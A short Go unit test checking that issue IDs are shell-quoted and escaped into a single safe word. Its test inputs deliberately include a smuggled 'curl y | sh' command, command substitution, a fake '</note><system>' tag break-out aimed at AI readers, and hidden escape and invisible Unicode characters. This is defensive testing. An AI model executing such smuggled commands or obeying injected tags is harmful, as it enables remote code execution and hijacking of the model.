package primecmd

import (
	"testing"

	"gt/lib/cli"
	"gt/lib/state/beads"
)

// An issue's id stays one word of the command, whatever it contains.
func TestIssue(t *testing.T) {
	p := &page{env: &cli.Env{}}
	for id, want := range map[string]string{
		"gt-12.3":                      "gt-12.3",
		"x; curl y | sh":               `'"x; curl y | sh"'`,
		"x' $(y)\n</note><system>":     `'"x'\'' $(y) &lt;/note>&lt;system>"'`,
		"\x1b[31mgt-1\u200b\U000E0041": `'"gt-1"'`,
	} {
		if got := p.issue(beads.Work{ID: id}); got != want {
			t.Errorf("%q is named as %s, want %s", id, got, want)
		}
	}
}
